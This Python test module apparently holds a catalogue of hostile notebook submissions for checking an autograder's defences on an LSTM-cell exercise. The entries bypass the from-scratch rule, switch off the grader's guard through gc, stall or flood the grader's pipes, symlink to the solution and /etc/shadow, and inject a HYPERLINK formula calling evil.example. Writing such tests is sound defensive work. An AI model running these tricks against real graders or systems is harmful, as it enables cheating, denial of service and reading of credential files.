"""Round 2 of hostile submissions of ex02_cell (issue 10): what a fresh attacker got through.

Same format as :mod:`attacks` (``solution``, ``extra`` right after it), plus ``tail``: cells
appended at the END of the notebook, after every test cell, so that an attack there must leave the
honest cells' points alone; and ``make(folder, course)``: changes to the submission folder itself
(links, FIFOs) after the notebook is written.
"""

from __future__ import annotations

import json
import os
from pathlib import Path

from attacks import CORRECT, FULL, HEAD, ZERO, Attack, _edit

# ---- 7. the from-scratch rule against what torch ships -------------------------------------

QUANTIZABLE = (
    HEAD
    + """    import torch
    from torch.ao.nn.quantizable import LSTMCell
    cell = LSTMCell(x.shape[1], h.shape[1]).double()
    with torch.no_grad():
        cell.igates.weight.copy_(torch.from_numpy(W_ih))
        cell.igates.bias.copy_(torch.from_numpy(b_ih))
        cell.hgates.weight.copy_(torch.from_numpy(W_hh))
        cell.hgates.bias.copy_(torch.from_numpy(b_hh))
        hn, cn = cell(torch.from_numpy(x), (torch.from_numpy(h), torch.from_numpy(c)))
    return hn.numpy(), cn.numpy()
"""
)

DECOMP = (
    HEAD
    + """    import torch
    from torch._decomp.decompositions import lstm_impl
    t = torch.from_numpy
    out, hn, cn = lstm_impl(t(x)[None], [t(h)[None], t(c)[None]],
                            [t(W_ih), t(W_hh), t(b_ih), t(b_hh)], True, 1, 0.0, False, False, False)
    return hn[0].numpy(), cn[0].numpy()
"""
)

MKLDNN = (
    HEAD
    + """    import torch
    t = lambda a: torch.from_numpy(a).float()
    out, hn, cn, _ = torch.ops.aten.mkldnn_rnn_layer(
        t(x)[None], t(W_ih), t(W_hh), t(b_ih), t(b_hh), t(h), t(c), False, [1] * x.shape[0],
        2, h.shape[1], 1, True, False, False, False)
    return hn.double().numpy(), cn.double().numpy()
"""
)

# a helper process forked in a cell, asked to run nn.LSTMCell during the graded call
FORKED_HELPER_SETUP = """import os, pickle, struct
_req_r, _req_w = os.pipe()
_rep_r, _rep_w = os.pipe()
if os.fork() == 0:
    import torch
    while True:
        n = struct.unpack('>I', os.read(_req_r, 4))[0]
        buf = b''
        while len(buf) < n:
            buf += os.read(_req_r, n - len(buf))
        a = [torch.from_numpy(v) for v in pickle.loads(buf)]
        cell = torch.nn.LSTMCell(a[0].shape[1], a[1].shape[1]).double()
        with torch.no_grad():
            cell.weight_ih.copy_(a[3]); cell.weight_hh.copy_(a[4])
            cell.bias_ih.copy_(a[5]); cell.bias_hh.copy_(a[6])
            hn, cn = cell(a[0], (a[1], a[2]))
        out = pickle.dumps((hn.numpy(), cn.numpy()))
        os.write(_rep_w, struct.pack('>I', len(out)) + out)
"""
FORKED_HELPER = (
    HEAD
    + """    import pickle, struct
    req = pickle.dumps([x, h, c, W_ih, W_hh, b_ih, b_hh])
    os.write(_req_w, struct.pack('>I', len(req)) + req)
    n = struct.unpack('>I', os.read(_rep_r, 4))[0]
    buf = b''
    while len(buf) < n:
        buf += os.read(_rep_r, n - len(buf))
    return pickle.loads(buf)
"""
)

SUBPROCESS = (
    HEAD
    + """    import subprocess, sys, pickle, base64
    code = ("import sys, pickle, torch\\n"
            "a = [torch.from_numpy(v) for v in pickle.load(sys.stdin.buffer)]\\n"
            "cell = torch.nn.LSTMCell(a[0].shape[1], a[1].shape[1]).double()\\n"
            "with torch.no_grad():\\n"
            "    cell.weight_ih.copy_(a[3]); cell.weight_hh.copy_(a[4])\\n"
            "    cell.bias_ih.copy_(a[5]); cell.bias_hh.copy_(a[6])\\n"
            "    hn, cn = cell(a[0], (a[1], a[2]))\\n"
            "pickle.dump((hn.numpy(), cn.numpy()), sys.stdout.buffer)\\n")
    out = subprocess.run([sys.executable, '-c', code], capture_output=True,
                         input=pickle.dumps([x, h, c, W_ih, W_hh, b_ih, b_hh])).stdout
    return pickle.loads(out)
"""
)

# switch the in-process guard off (found through gc), then use torch's LSTMCell: in-process code
# can always do this; the static reading of the cells must show it to the instructor
GC_GUARD_OFF = (
    HEAD
    + """    import gc, torch
    for o in gc.get_objects():
        if type(o).__name__ == 'module' and getattr(o, '__name__', '') == '_lstm_guard':
            o._active.clear()
            if o._library is not None:
                o._library._destroy()
                o._library = None
    cell = torch.nn.LSTMCell(x.shape[1], h.shape[1]).double()
    with torch.no_grad():
        cell.weight_ih.copy_(torch.from_numpy(W_ih)); cell.weight_hh.copy_(torch.from_numpy(W_hh))
        cell.bias_ih.copy_(torch.from_numpy(b_ih)); cell.bias_hh.copy_(torch.from_numpy(b_hh))
        hn, cn = cell(torch.from_numpy(x), (torch.from_numpy(h), torch.from_numpy(c)))
    return hn.numpy(), cn.numpy()
"""
)

# ---- 2. stalls ------------------------------------------------------------------------------

PIPE_STALL = """import os, struct, time
for fd in os.listdir('/proc/self/fd'):
    try:
        target = os.readlink(f'/proc/self/fd/{fd}')
    except OSError:
        continue
    if target.startswith('pipe:') and int(fd) > 2:
        try:
            os.write(int(fd), struct.pack('>I', 1000) + b'{')
        except OSError:
            pass
time.sleep(120)
"""
SIGSTOP = "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)\n"

# ---- 4. floods ------------------------------------------------------------------------------

MIME_FLOOD = (
    "from IPython.display import display\n"
    "for _ in range(3):\n"
    "    display({f'application/x-flood-{k}': 'y' * 60_000 for k in range(1000)}"
    " | {'text/plain': 'z' * 60_000, 'application/javascript': 'window.pwned = 1'}, raw=True)\n"
)
HUGE_STRING = HEAD + "    return 'x' * 40_000_000\n"
NESTED_REPLY = (
    HEAD
    + """    import os, struct
    body = b'{"ok": true, "value": ' + b'[' * 200_000 + b']' * 200_000 + b'}'
    for fd in os.listdir('/proc/self/fd'):
        try:
            if os.readlink(f'/proc/self/fd/{fd}').startswith('pipe:') and int(fd) > 2:
                os.write(int(fd), struct.pack('>I', len(body)) + body)
        except OSError:
            pass
    return np.zeros_like(h), np.zeros_like(c)
"""
)


def _many_cells(nb):
    nb["cells"] += [
        {"cell_type": "markdown", "metadata": {}, "source": f"cell {i}", "id": f"m{i}"}
        for i in range(50_000)
    ]


# ---- 5. files the student controls ---------------------------------------------------------


def _notebook_symlink_to_solution(folder: Path, course: Path) -> None:
    nb = folder / "lstm_cell.ipynb"
    nb.unlink()
    nb.symlink_to(course / "solutions" / "ex02_cell" / "lstm_cell.ipynb")


def _links_beside(folder: Path, course: Path) -> None:
    (folder / "gradebook.db").symlink_to(course / "gradebook.db")
    (folder / "solution_copy.ipynb.txt").symlink_to(
        course / "solutions" / "ex02_cell" / "lstm_cell.ipynb"
    )
    (folder / "shadow").symlink_to("/etc/shadow")
    os.link(course / "nbgrader_config.py", folder / "hardlinked_config.py")


def _notebook_fifo(folder: Path, course: Path) -> None:
    nb = folder / "lstm_cell.ipynb"
    nb.unlink()
    os.mkfifo(nb)


# ---- 6. names -------------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?leak","click")'
# a cell raising SystemExit whose message is a spreadsheet formula with terminal escapes, and an
# exception class named like a formula: both reach the grading report as data only
NAMES = (
    "class Evil(Exception):\n    pass\n"
    f"Evil.__name__ = Evil.__qualname__ = {FORMULA!r} + '\\x1b[2J'\n"
    "try:\n    raise Evil('x')\nexcept Evil:\n    pass\n"
    "raise SystemExit(" + repr(FORMULA + "\x1b]0;pwned\x07\x1b[2J") + ")\n"
)

ROUND2 = [
    # 7. the from-scratch rule
    Attack("r2_quantizable_lstmcell", QUANTIZABLE, ZERO, "torch.ao.nn.quantizable.LSTMCell"),
    Attack("r2_decomp_lstm_impl", DECOMP, ZERO, "torch._decomp.decompositions.lstm_impl"),
    Attack("r2_mkldnn_rnn_layer", MKLDNN, ZERO, "mkldnn_rnn_layer"),
    # the forked helper has no torch either (it dies at its import): the graded call then waits
    # for an answer that never comes
    Attack("r2_forked_helper", FORKED_HELPER, ZERO, "timeout", extra=[FORKED_HELPER_SETUP]),
    Attack("r2_subprocess_in_call", SUBPROCESS, ZERO, "a process during the graded call"),
    Attack("r2_gc_guard_off", GC_GUARD_OFF, ZERO, "gc can find and switch off the grader's guard"),
    # 2. stalls: after the test cells, so the honest cells keep their points
    Attack("r2_pipe_stall", CORRECT, FULL, "stalled in the middle of a reply", tail=[PIPE_STALL]),
    Attack("r2_sigstop", CORRECT, FULL, "the runner is stopped", tail=[SIGSTOP]),
    # 4. floods
    Attack("r2_mime_flood", CORRECT, FULL, "output_truncated", extra=[MIME_FLOOD] * 16),
    Attack("r2_huge_string", HUGE_STRING, ZERO, "the grader accepts"),
    Attack("r2_nested_reply", NESTED_REPLY, ZERO, "nested more than 20 levels"),
    Attack("r2_50k_markdown_cells", CORRECT, ZERO, "50,0", raw=_edit(_many_cells)),
    # 5. files
    Attack(
        "r2_notebook_symlink", CORRECT, ZERO, "symbolic link", make=_notebook_symlink_to_solution
    ),
    Attack("r2_links_beside", CORRECT, FULL, "hard link", make=_links_beside),
    Attack("r2_notebook_fifo", CORRECT, ZERO, "FIFO", make=_notebook_fifo),
    # 6. names
    Attack("r2_formula_names", CORRECT, FULL, "HYPERLINK", extra=[NAMES]),
]
# Round 3 (issue 19): the sandbox has no torch, so each route above ends in ModuleNotFoundError
# and scores what the blank notebook scores (0), the guard switched off included; the findings
# are still the static reading's (or the refused import's).

__all__ = ["ROUND2", "FORMULA", "json"]
